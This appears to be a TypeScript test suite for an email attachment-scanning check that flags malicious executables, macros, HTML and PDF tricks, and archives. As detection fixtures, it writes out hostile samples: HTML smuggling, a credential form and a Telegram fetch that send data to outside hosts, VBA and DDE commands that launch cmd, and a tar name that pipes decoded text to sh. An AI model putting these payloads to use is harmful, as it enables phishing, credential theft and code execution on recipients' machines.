import { test } from 'node:test';
import assert from 'node:assert/strict';
import { attachmentsCheck, shellName } from '../../../src/mail/checks/attachments.js';
import { docx, markEncrypted, oleWith, oleWithVba, tar, zip } from '../inspect/build.js';
import { attachment, hit, msg, run, symbols } from './make.js';

const att = (...a: Parameters<typeof attachment>[]) => run(attachmentsCheck, msg({ attachments: a.map((x) => attachment(...x)) }));
const MZ = 'MZ\x90\x00\x03\x00\x00\x00' + '\0'.repeat(120);

test('ATTACH_EXECUTABLE by extension and by MZ content; evidence carries the hash', async () => {
  const h = hit(await att(['setup.exe', MZ]), 'ATTACH_EXECUTABLE');
  assert.ok(h);
  assert.equal(h.kind, 'malware');
  assert.match(h.evidence![1], /^[0-9a-f]{64}$/);
  const renamed = await att(['report.pdf', MZ]);
  assert.ok(hit(renamed, 'ATTACH_EXECUTABLE'));
  assert.match(hit(renamed, 'ATTACH_EXT_MISMATCH')!.reason, /named \.pdf but its content is pe/);
  assert.deepEqual(symbols(await att(['report.pdf', '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n'])), []);
});

test('ATTACH_SCRIPT, ATTACH_SHORTCUT, ATTACH_DISK_IMAGE, ATTACH_ONENOTE', async () => {
  assert.ok(hit(await att(['run.vbs', 'CreateObject("WScript.Shell")']), 'ATTACH_SCRIPT'));
  assert.ok(hit(await att(['invoice.hta', '<script>x</script>']), 'ATTACH_SCRIPT'));
  assert.ok(hit(await att(['doc.lnk', '\x4c\0\0\0\x01\x14\x02\0xxxx']), 'ATTACH_SHORTCUT'));
  assert.ok(hit(await att(['Photo.jpg.url', '[InternetShortcut]\r\nURL=file://203.0.113.5/share/x.exe']), 'ATTACH_SHORTCUT'));
  const iso = new Uint8Array(0x8010); iso.set(Buffer.from('CD001'), 0x8001);
  assert.ok(hit(await att(['scan.img', iso]), 'ATTACH_DISK_IMAGE'));
  assert.ok(hit(await att(['order.iso', iso]), 'ATTACH_DISK_IMAGE'));
  assert.ok(hit(await att(['notes.one', Buffer.from([0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3, 0, 0])]), 'ATTACH_ONENOTE'));
  assert.deepEqual(symbols(await att(['photo.jpg', '\xff\xd8\xff\xe0' + '\0'.repeat(100)], ['notes.txt', 'Hello, minutes of the meeting.'])), []);
});

test('ATTACH_DOUBLE_EXTENSION and ATTACH_RTLO_NAME', async () => {
  assert.match(hit(await att(['Invoice.pdf.exe', MZ]), 'ATTACH_DOUBLE_EXTENSION')!.reason, /\.pdf file but is really \.exe/);
  assert.ok(hit(await att(['PO45638.Xls.htm', '<html><body>hi</body></html>']), 'ATTACH_DOUBLE_EXTENSION'));
  assert.ok(hit(await att(['scan.pdf          .js', 'x']), 'ATTACH_DOUBLE_EXTENSION'));
  assert.match(hit(await att(['invoice\u202efdp.scr', MZ]), 'ATTACH_RTLO_NAME')!.reason, /right-to-left/);
  assert.deepEqual(symbols(await att(['report.final.v2.pdf', '%PDF-1.4\n'], ['archive.tar.gz.txt', 'plain text here'])), []);
});

test('HTML attachments: smuggling, credential form, redirect, plain page', async () => {
  const smuggle = '<html><script>var b=atob("TVqQAAMAAAAEAAAA");var u=new Uint8Array(b.length);var blob=new Blob([u]);var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="x.iso";a.click();</script></html>';
  assert.ok(hit(await att(['Remittance.html', smuggle]), 'ATTACH_HTML_SMUGGLING'));
  const form = '<html><body><form action="https://collect.example/next.php" method="post"><input name="email"><input type="password" name="pass"></form></body></html>';
  assert.match(hit(await att(['Secure_Document.htm', form]), 'ATTACH_HTML_FORM')!.reason, /posted to collect\.example/);
  const tg = '<html><script>fetch("https://api.telegram.org/bot123/sendMessage?text="+document.getElementById("p").value)</script><input id=p></html>';
  assert.ok(hit(await att(['fax.html', tg]), 'ATTACH_HTML_FORM'));
  const redir = '<html><head><script>window.location.href="https://evil.example/o365"</script></head></html>';
  assert.match(hit(await att(['voicemail.html', redir]), 'ATTACH_HTML_REDIRECT')!.reason, /evil\.example/);
  const plain = await att(['newsletter.html', '<html><body><p>Our news</p></body></html>']);
  assert.deepEqual(symbols(plain), ['ATTACH_HTML']);
  assert.ok(hit(plain, 'ATTACH_HTML')!.score < 5);
});

test('ATTACH_SVG_SCRIPT', async () => {
  assert.ok(hit(await att(['image.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example"</script></svg>']), 'ATTACH_SVG_SCRIPT'));
  const clean = await att(['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>']);
  assert.equal(hit(clean, 'ATTACH_SVG_SCRIPT'), undefined);
});

test('Office: macros, auto-exec, remote template, embedded object, DDE, encryption', async () => {
  const auto = hit(await att(['order.doc', oleWithVba('Sub AutoOpen()\r\nShell "cmd /c calc"\r\nEnd Sub')]), 'ATTACH_OFFICE_AUTOEXEC');
  assert.match(auto!.reason, /autoopen.*shell/);
  assert.ok(hit(await att(['macro.doc', oleWithVba('Sub Helper()\r\nEnd Sub')]), 'ATTACH_OFFICE_MACRO'));
  const rels = '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>';
  assert.ok(hit(await att(['cv.docx', docx({ 'word/_rels/settings.xml.rels': rels })]), 'ATTACH_REMOTE_TEMPLATE'));
  assert.ok(hit(await att(['report.docm', docx({ 'word/vbaProject.bin': oleWithVba('Sub Document_Open()\r\nEnd Sub') })]), 'ATTACH_OFFICE_AUTOEXEC'));
  assert.ok(hit(await att(['pkg.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' })]), 'ATTACH_OLE_OBJECT'));
  const dde = '<w:document><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>';
  assert.ok(hit(await att(['dde.docx', docx({}, dde)]), 'ATTACH_DDE'));
  assert.ok(hit(await att(['locked.docx', oleWith({ '/EncryptionInfo': 'x', '/EncryptedPackage': 'y' })]), 'ATTACH_ENCRYPTED_DOCUMENT'));
  assert.deepEqual(symbols(await att(['letter.docx', docx()])), []);
  assert.ok(hit(await att(['x.rtf', '{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}']), 'ATTACH_OLE_OBJECT'));
});

test('archives: encrypted, dangerous members found recursively, bombs, opaque formats', async () => {
  const enc = await att(['invoice.zip', markEncrypted(zip({ 'invoice.pdf.exe': MZ }))]);
  assert.ok(hit(enc, 'ATTACH_ENCRYPTED_ARCHIVE'));
  assert.ok(hit(enc, 'ATTACH_DOUBLE_EXTENSION'), 'member names are judged even when encrypted');
  const nested = await att(['outer.zip', zip({ 'inner.zip': zip({ 'payload.js': 'WScript' }) })]);
  const s = hit(nested, 'ATTACH_SCRIPT');
  assert.match(s!.reason, /"payload\.js" inside "outer\.zip" › "inner\.zip"/);
  assert.ok(hit(await att(['mail.zip', zip({ 'a.txt': 'x', 'b.lnk': '\x4c\0\0\0\x01\x14\x02\0' })]), 'ATTACH_SHORTCUT'));
  assert.ok(hit(await att(['doc.docm.zip', zip({ 'doc.docm': docx({ 'word/vbaProject.bin': oleWithVba('Sub AutoOpen()\r\nEnd Sub') }) })]), 'ATTACH_OFFICE_AUTOEXEC'));
  assert.ok(hit(await att(['bomb.zip', zip({ 'a.bin': new Uint8Array(4 * 1024 * 1024) }, 9)]), 'ATTACH_ARCHIVE_BOMB'));
  assert.equal(hit(await att(['x.rar', 'Rar!\x1a\x07\x01\x00' + 'x'.repeat(50)]), 'ATTACH_ARCHIVE_OPAQUE')?.kind, 'info');
  assert.deepEqual(symbols(await att(['photos.zip', zip({ 'a.jpg': '\xff\xd8\xff\xe0', 'notes.txt': 'hello' })])), []);
});

test('ATTACH_TAR_SHELL_NAME: member names with shell syntax (CVE-2023-2868)', async () => {
  const evil = tar([{ name: "'`echo aGVsbG8= | base64 -d | sh`'.tar", data: '' }]);
  const h = hit(await att(['update.tar', evil]), 'ATTACH_TAR_SHELL_NAME');
  assert.match(h!.reason, /CVE-2023-2868/);
  assert.ok(hit(await att(['x.tgz', Buffer.from((await import('fflate')).gzipSync(evil))]), 'ATTACH_TAR_SHELL_NAME'));
  assert.deepEqual(symbols(await att(['backup.tar', tar([{ name: 'etc/hosts', data: '127.0.0.1 localhost' }, { name: "John's notes.txt", data: 'x' }])])), []);
  assert.equal(shellName('a$(id).txt'), true);
  assert.equal(shellName('report-2023_v2 (final).txt'), false);
});

test('PDF attachments: JavaScript, Launch, suspicious links', async () => {
  const pdf = '%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n2 0 obj<</S/Launch/F(cmd.exe)>>endobj\n3 0 obj<</A<</S/URI/URI(http://198.51.100.7/login)>>>>endobj\n';
  const h = await att(['statement.pdf', pdf]);
  assert.ok(hit(h, 'ATTACH_PDF_JAVASCRIPT'));
  assert.ok(hit(h, 'ATTACH_PDF_LAUNCH'));
  assert.match(hit(h, 'ATTACH_PDF_LINK')!.reason, /198\.51\.100\.7/);
  assert.deepEqual(symbols(await att(['paper.pdf', '%PDF-1.4\n1 0 obj<</A<</S/URI/URI(https://www.example.com/paper)>>>>endobj\n'])), []);
  const emb = await att(['pack.pdf', '%PDF-1.7\n1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj\n']);
  assert.deepEqual(symbols(emb), ['ATTACH_PDF_EMBEDDED_FILE']);
  assert.equal(hit(emb, 'ATTACH_PDF_EMBEDDED_FILE')!.kind, 'info');
});

test('hostile attachments never throw', async () => {
  const junk = [Buffer.from('PK\x03\x04junk'), Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 1, 2, 3]), Buffer.from('\x1f\x8bjunk'), Buffer.from('%PDF/URI('), Buffer.from('<svg' + '<'.repeat(100000))];
  const h = await run(attachmentsCheck, msg({ attachments: junk.map((b, i) => attachment(`f${i}.${['zip', 'doc', 'gz', 'pdf', 'svg'][i]}`, b)) }));
  assert.ok(Array.isArray(h));
});

test('ATTACH_WEB_SHORTCUT: an Internet shortcut to a web page is a weaker signal than one to a share', async () => {
  const web = await att(['article.url', '[InternetShortcut]\r\nURL=https://www.example.com/story.html\r\n']);
  assert.deepEqual(symbols(web), ['ATTACH_WEB_SHORTCUT']);
  assert.equal(hit(web, 'ATTACH_WEB_SHORTCUT')!.kind, 'phishing');
  assert.deepEqual(symbols(await att(['doc.url', '[InternetShortcut]\r\nURL=file://\\\\203.0.113.5\\share\\run.exe\r\n'])), ['ATTACH_SHORTCUT']);
});

test('nested archive members are reported once, with their full container chain', async () => {
  const h = await att(['outer.zip', zip({ 'inner.zip': zip({ 'a.js': 'x' }) })]);
  const s = hit(h, 'ATTACH_SCRIPT')!;
  assert.deepEqual(s.evidence!.filter((e) => e.endsWith('a.js')), ['outer.zip/inner.zip/a.js']);
});

test('hostile names: very long names with space runs are handled in bounded time', async () => {
  const h = await att([' '.repeat(200_000) + '.pdf' + ' '.repeat(100_000) + '.exe', MZ], ['x'.repeat(300_000), 'y']);
  assert.ok(hit(h, 'ATTACH_EXECUTABLE'));
});
